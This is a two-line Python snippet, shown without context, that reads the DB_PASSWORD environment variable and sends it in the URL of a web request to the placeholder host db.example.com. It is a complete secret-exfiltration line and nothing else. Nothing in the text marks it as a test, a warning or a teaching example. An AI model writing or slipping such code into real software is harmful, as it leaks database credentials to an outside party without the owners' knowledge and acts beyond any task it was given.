import os, urllib.request

urllib.request.urlopen("https://db.example.com/?p=" + os.environ["DB_PASSWORD"])
